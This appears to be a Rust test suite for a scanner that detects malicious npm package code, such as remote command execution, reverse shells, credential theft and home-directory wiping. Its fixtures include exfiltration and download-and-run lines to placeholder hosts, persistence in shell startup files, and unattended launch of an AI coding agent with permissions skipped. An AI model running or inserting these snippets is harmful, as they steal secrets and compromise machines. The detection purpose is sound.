//! What is found although install does not reach it, and only one look at the file says that it is worth more.

use weir_model::contents::{CapabilityKind, SinkKind, SourceKind, Surface};

use super::run;
use crate::Facts;

fn imported(files: &[(&str, &str)]) -> Facts {
    run(files, &[], &[(Surface::Import, "index.js")])
}

fn has_flow(facts: &Facts, source: SourceKind, sink: SinkKind) -> bool {
    let mut flows = facts.flows.iter();
    flows.any(|flow| flow.source == source && flow.sink == sink)
}

fn has_ability(facts: &Facts, kind: CapabilityKind) -> bool {
    facts.capabilities.iter().any(|it| it.kind == kind)
}

#[test]
fn what_was_fetched_is_followed_into_commands() {
    for code in [
        "const { exec } = require('child_process'); fetch('https://collector.invalid').then(r => r.text()).then(t => exec(t))",
        "const cp = require('child_process'); require('axios').get('https://collector.invalid').then(r => cp.execSync(r.data.cmd))",
        "require('dns').resolveTxt('a.invalid', (e, r) => require('child_process').exec(r.flat().join('')))",
        "const io = require('socket.io-client')('https://collector.invalid'); io.on('run', c => require('child_process').exec(c))",
        "const { spawn } = require('child_process'); fetch('https://collector.invalid').then(r => r.json()).then(j => spawn('sh', ['-c', j.c]))",
        "const { exec } = require('child_process'); fetch('https://collector.invalid').then(r => r.text()).then(t => exec('cd /tmp && ' + t))",
    ] {
        let facts = imported(&[("index.js", code)]);
        assert!(
            has_flow(&facts, SourceKind::Fetched, SinkKind::Process),
            "{code}: {:#?}",
            facts.flows
        );
    }
    let files = [
        (
            "index.js",
            "const { run } = require('./run'); fetch('https://collector.invalid').then(r => r.text()).then(run)",
        ),
        (
            "run.js",
            "const cp = require('child_process'); exports.run = c => cp.execSync(c)",
        ),
    ];
    let facts = imported(&files);
    assert!(
        has_flow(&facts, SourceKind::Fetched, SinkKind::Process),
        "{:#?}",
        facts.flows
    );
}

#[test]
fn what_is_only_given_to_a_known_program_is_none() {
    for code in [
        "const { execSync } = require('child_process'); fetch('https://registry.example/x').then(r => r.json()).then(j => execSync(`npm install x@${j.version}`))",
        "const { spawn } = require('child_process'); fetch('https://registry.example/x').then(r => r.json()).then(j => spawn('git', ['clone', j.url]))",
        "const { exec } = require('child_process'); const run = c => exec(c); fetch('https://registry.example/x').then(r => r.json()).then(j => run('npm install x@' + j.version))",
        "const { spawn } = require('child_process'); fetch('https://registry.example/x').then(r => r.json()).then(j => spawn('node', ['server.js', j.port]))",
        "const { exec } = require('child_process'); fetch('https://registry.example/x').then(r => r.json()).then(j => exec('git status', { env: { A: j.a } }))",
        "const { exec } = require('child_process'); module.exports = c => exec(c)",
    ] {
        let facts = imported(&[("index.js", code)]);
        assert_eq!(facts.flows, [], "{code}");
    }
}

#[test]
fn what_is_decoded_is_followed_into_commands() {
    let code = "const { exec } = require('child_process'); exec(Buffer.from('Y3VybCAtZnNTTCBodHRwczovL2MuaW52YWxpZC9pLnNoIHwgc2g=', 'base64').toString())";
    let facts = imported(&[("index.js", code)]);
    assert!(
        has_flow(&facts, SourceKind::Decoded, SinkKind::Process),
        "{:#?}",
        facts.flows
    );
    assert!(
        facts.hosts.iter().any(|host| host.host == "c.invalid"),
        "{:#?}",
        facts.hosts
    );
    // Near miss: what it decodes is run by nobody.
    let facts = imported(&[("index.js", &code.replace("exec(B", "console.log(B"))]);
    assert_eq!(facts.flows, []);
}

#[test]
fn shells_that_are_chosen_are_shells() {
    for shell in [
        "process.platform === 'win32' ? 'cmd.exe' : '/bin/sh'",
        "process.env.SHELL || 'bash'",
        "shell",
    ] {
        let code = format!(
            "const net = require('net'), cp = require('child_process'), shell = '/bin/bash'; const s = new net.Socket();
             s.connect(9001, 'collector.invalid', () => {{ const sh = cp.spawn({shell}, []); s.pipe(sh.stdin); sh.stdout.pipe(s) }})"
        );
        let facts = imported(&[("index.js", &code)]);
        assert!(
            has_flow(&facts, SourceKind::Fetched, SinkKind::Process),
            "{shell}: {:#?}",
            facts.flows
        );
    }
}

#[test]
fn what_helpers_and_loops_do_is_told() {
    use CapabilityKind::{DrivesAgents, Persists, Publishes, RemovesHome, WritesPackages};
    for (kind, code) in [
        (
            Persists,
            "const fs = require('fs'), os = require('os'); function add(f) { fs.appendFileSync(os.homedir() + '/' + f, 'x') } add('.zshrc')",
        ),
        (
            Persists,
            "const fs = require('fs'), os = require('os'); for (const f of ['.bashrc', '.zshrc']) fs.appendFileSync(os.homedir() + '/' + f, 'x')",
        ),
        (
            Persists,
            "const fs = require('fs'), os = require('os'); ['.bashrc'].forEach(f => fs.appendFileSync(os.homedir() + '/' + f, 'x'))",
        ),
        (
            Publishes,
            "const { spawnSync } = require('child_process'); const npm = (...a) => spawnSync('npm', a); npm('publish')",
        ),
        (
            DrivesAgents,
            "const { spawn } = require('child_process'); for (const [b, f] of [['claude', '--dangerously-skip-permissions']]) spawn(b, [f, '-p', 'x'])",
        ),
        (
            RemovesHome,
            "const { execSync } = require('child_process'); const quiet = c => execSync(c); quiet('rm -rf ~/')",
        ),
        (
            RemovesHome,
            "const fs = require('fs'), os = require('os'); const wipe = d => fs.rmSync(d, { recursive: true }); wipe(os.homedir())",
        ),
        (
            WritesPackages,
            "const fs = require('fs'), path = require('path'); const patch = (n, f) => fs.writeFileSync(path.join(process.cwd(), 'node_modules', n, f), 'x'); patch('ethers', 'lib/x.js')",
        ),
    ] {
        let facts = imported(&[("index.js", code)]);
        assert!(
            has_ability(&facts, kind),
            "{kind:?} {code}: {:#?}",
            facts.capabilities
        );
    }
    let files = [
        ("index.js", "require('./add')('.zshrc')"),
        (
            "add.js",
            "const fs = require('fs'), os = require('os'); module.exports = f => fs.appendFileSync(os.homedir() + '/' + f, 'x')",
        ),
    ];
    assert!(has_ability(&imported(&files), Persists));
}

#[test]
fn near_misses_of_helpers_are_not_followed() {
    for code in [
        // Nothing is named that matters.
        "const fs = require('fs'); function add(f) { fs.appendFileSync(f, 'x') } add('out.txt')",
        // What is written is known.
        "const fs = require('fs'); fs.writeFileSync('out.txt', '.zshrc')",
        "const { spawn } = require('child_process'); spawn('npm', ['publish-check'])",
    ] {
        let facts = imported(&[("index.js", code)]);
        assert_eq!(facts.files_in_flow, 0, "{code}");
    }
}

#[test]
fn parts_of_a_large_file_are_chosen_by_what_they_name() {
    let filler: String = (0..2_000)
        .map(|at| format!("function filler{at}(a) {{ return a.b{at} + {at} }}\n"))
        .collect();
    let code = format!(
        "const fs = require('fs'), os = require('os');\n{filler}\nfunction plant(f) {{ fs.appendFileSync(os.homedir() + '/' + f, 'x') }}\n{filler}\nplant('.zshrc');"
    );
    let facts = imported(&[("index.js", &code)]);
    assert!(
        has_ability(&facts, CapabilityKind::Persists),
        "{:#?}",
        facts.capabilities
    );
}

#[test]
fn every_tool_that_prints_secrets_is_followed() {
    for call in [
        "execSync('gcloud auth print-access-token')",
        "execSync('kubectl get secrets -A -o json')",
        "execFileSync('security', ['find-generic-password', '-wa', 'x'])",
        "execFileSync('git', ['credential', 'fill'])",
        "execSync('env')",
        "execSync(process.platform === 'win32' ? 'type x' : 'env')",
        "(c => execSync(c))('vault kv get secret/x')",
        "((c, a) => execFileSync(c, a))('aws', ['configure', 'export-credentials'])",
    ] {
        let code = format!(
            "const {{ execSync, execFileSync }} = require('child_process'); const o = {call}.toString(); fetch('https://collector.invalid', {{ method: 'POST', body: o }})"
        );
        let facts = imported(&[("index.js", &code)]);
        assert!(
            facts.flows.iter().any(|flow| flow.sink == SinkKind::Http),
            "{call}: {:#?}",
            facts.flows
        );
    }
}

#[test]
fn smaller_signs_are_seen() {
    for code in [
        "const { getBuiltinModule: g } = process; g('https').request('https://collector.invalid').end(g('fs').readFileSync(g('os').homedir() + '/.npmrc'))",
        "new EventSource('https://collector.invalid/?' + new URLSearchParams(process.env))",
        "require('some-client').post('https://collector.invalid', process.env)",
        "const { post } = require('some-client'); post({ url: 'https://collector.invalid', body: JSON.stringify(process.env) })",
        "import Client from 'some-client'; const to = 'https://collector.invalid/a'; Client.send(to, JSON.stringify(process.env))",
    ] {
        let facts = imported(&[("index.js", code)]);
        assert_ne!(facts.flows, [], "{code}");
    }
    // Near misses: an address of this machine, and one that nobody is given with it.
    for code in [
        "require('some-client').post('http://localhost:1', process.env)",
        "require('some-client').see('https://docs.example'); console.log(process.env)",
    ] {
        let facts = imported(&[("index.js", code)]);
        assert_eq!(facts.flows, [], "{code}");
    }
}

#[test]
fn hooks_of_the_loader_are_loaded() {
    let hooks = "import { readFileSync } from 'node:fs'; import { homedir } from 'node:os';
        export async function initialize() { await fetch('https://collector.invalid', { method: 'POST', body: readFileSync(homedir() + '/.npmrc') }) }";
    for code in [
        "import { register } from 'node:module'; register('./hooks.mjs', import.meta.url);",
        "import module from 'module'; module.register(new URL('./hooks.mjs', import.meta.url));",
        "require('node:module').register('./hooks.mjs', 'file:///');",
    ] {
        let facts = imported(&[("index.js", code), ("hooks.mjs", hooks)]);
        let flow = facts.flows.first();
        assert_eq!(flow.map(|it| it.surface), Some(Surface::Worker), "{code}");
    }
    // Near miss: somebody else's `register`.
    let code = "import { register } from 'some-store'; register('./hooks.mjs');";
    let facts = imported(&[("index.js", code), ("hooks.mjs", hooks)]);
    let flow = facts.flows.first();
    assert_eq!(flow.map(|it| it.surface), Some(Surface::Unreferenced));
}

#[test]
fn entries_with_a_star_are_imported() {
    let files = [
        ("index.js", "module.exports = 1"),
        (
            "plugins/a.js",
            "require('https').request('https://collector.invalid').end(JSON.stringify(process.env))",
        ),
    ];
    let facts = run(
        &files,
        &[],
        &[
            (Surface::Import, "./index.js"),
            (Surface::Import, "./plugins/*.js"),
        ],
    );
    let flow = facts.flows.first();
    assert_eq!(flow.map(|it| it.surface), Some(Surface::Import));
}
